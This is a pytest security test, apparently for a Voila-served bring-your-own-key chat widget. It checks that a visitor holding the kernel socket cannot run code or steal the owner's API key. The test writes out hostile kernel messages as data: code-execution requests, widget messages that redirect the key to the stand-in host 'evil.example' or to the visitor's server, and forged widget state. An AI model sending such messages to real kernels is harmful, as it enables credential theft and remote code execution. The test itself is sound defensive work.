"""A visitor of a page that Voila serves, who has the kernel's socket and sends whatever a client can."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest

from tests.browser.leaks import files_below, hits
from tests.browser.test_elsewhere import Voila, needs, serve
from tests.fake_keys import fake_key
from tests.widgets.endpoint_server import EndpointServer
from tests.widgets.wire import seal

pytestmark = [pytest.mark.slow, needs("voila")]

__all__ = ["serve"]  # a fixture

_ASKED = (
    *("use_key_of", "check", "switch", "choose", "set", "for_all", "action", "answer_question"),
    *("requests", "lesson", "correct", "teach", "save_case"),
)

_SEND = """([url, messages]) => new Promise((done, failed) => {
  const socket = new WebSocket(url), heard = [];
  socket.binaryType = "arraybuffer";
  const text = data => typeof data === "string" ? data : new TextDecoder("latin1").decode(data);
  socket.onmessage = event => heard.push(text(event.data));
  socket.onerror = failed;
  socket.onopen = () => {
    const session = crypto.randomUUID();
    for (const [channel, type, content] of messages) {
      const header = { msg_id: crypto.randomUUID(), username: "", session, msg_type: type, version: "5.3",
                       date: new Date().toISOString() };
      socket.send(JSON.stringify({ channel, header, parent_header: {}, metadata: {}, content, buffers: [] }));
    }
    const end = Date.now() + 60000;
    const look = () => {
      if (!heard.some(text => text.includes('"refused"')) && Date.now() < end) return setTimeout(look, 200);
      setTimeout(() => { socket.close(); done(heard); }, 3000);
    };
    look();
  };
})"""


@pytest.fixture
def endpoint() -> Any:
    """The visitor's own server, which takes any key and keeps it."""
    server = EndpointServer(fake_key("compatible"))
    server.mode = "open"
    yield server
    server.close()


class OwnersVoila(Voila):
    """The page of an owner who has a key in the server's environment."""

    secret = fake_key("openai")

    def environment(self) -> dict[str, str]:
        return super().environment() | {"SERVER_API_KEY": self.secret, "OPENAI_API_KEY": self.secret}


def attacks(states: dict[str, dict[str, Any]], url: str, secret_file: str) -> Any:
    """Yield each message that a visitor would like to send: to all widgets, to none, and as code."""
    host = url.removeprefix("http://").partition("/")[0]
    code = f"open({secret_file!r}, 'w').close()"
    run = {"code": code, "silent": False, "store_history": False, "user_expressions": {}, "allow_stdin": True}
    for channel in ("shell", "control", "stdin"):
        yield channel, "execute_request", run
        yield channel, "input_reply", {"value": code}
        yield channel, "debug_request", {"command": "evaluate", "arguments": {"expression": code}}
    for number, (comm, state) in enumerate(states.items()):
        ids = {"id": f"{number}", "node": "ask", "name": "base_url", "value": url}
        targets = [f"compatible@{host}", state.get("target", ""), "openai@evil.example"]
        for target in targets:
            for storage in ("env", "auto", "session"):
                content = {"kind": "save", "target": target, "storage": storage, "override": True, **ids}
                if "public_key" in state:
                    content["sealed"] = seal(state["public_key"], "SERVER_API_KEY", content)
                yield "shell", "comm_msg", {"comm_id": comm, "data": {"method": "custom", "content": content}}
            for kind in _ASKED:
                content = {"kind": kind, "target": target, "flow": "owner", "provider": "compatible", **ids}
                yield "shell", "comm_msg", {"comm_id": comm, "data": {"method": "custom", "content": content}}
        for name in state if "view" in state else ("value", "children"):
            for value in (url, {"a": 1}, None):
                data = {"method": "update", "state": {name: value}, "buffer_paths": []}
                yield "shell", "comm_msg", {"comm_id": comm, "data": data}
        yield "shell", "comm_msg", {"comm_id": comm, "data": {"method": "backbone", "sync_data": state}}
        yield "shell", "comm_msg", {"comm_id": comm, "data": None}
    for number, state in enumerate(state for state in states.values() if "view" in state):
        opened = {"state": {**state, "value": url}, "buffer_paths": []}
        content = {"comm_id": f"new-{number}", "target_name": "jupyter.widget", "data": opened}
        yield "shell", "comm_open", content


def test_a_visitor_with_the_kernels_socket_reaches_nothing(serve: Any, endpoint: EndpointServer) -> None:
    page, served, frames = serve(OwnersVoila)
    page.locator(".byok-chat").get_by_label("Your message").wait_for()
    socket = next(url.partition("?")[0] for url in frames.urls if "/channels" in url)  # a session of its own
    states = {comm: state for frame in frames.received for comm, state in _states(frame)}
    assert any("public_key" in state for state in states.values())
    mark = served.base / "ran"
    before = dict(files_below(served.base / "byok-config")) if (served.base / "byok-config").exists() else {}
    heard = page.evaluate(_SEND, [socket, list(attacks(states, endpoint.base_url, str(mark)))])
    assert any('"refused"' in text for text in heard), "the kernel was reached, and said no"
    assert not mark.exists(), "no code runs"
    assert endpoint.asked == []
    after = dict(files_below(served.base / "byok-config")) if (served.base / "byok-config").exists() else {}
    assert after == before
    places = [("heard", "\n".join(heard).encode()), ("frames", b"\n".join(frames.received))]
    assert hits([*places, ("log", served.log.read_bytes())], served.secret) == []


def _states(frame: bytes) -> Any:
    """Yield the widgets in the kernel's answer to a page that asks for all of them, each with its state."""
    for match in re.finditer(rb'"states": ?\{', frame):
        text = frame[match.end() - 1 :].decode("utf-8", "replace")
        for comm, widget in json.JSONDecoder().raw_decode(text)[0].items():
            yield comm, widget["state"]
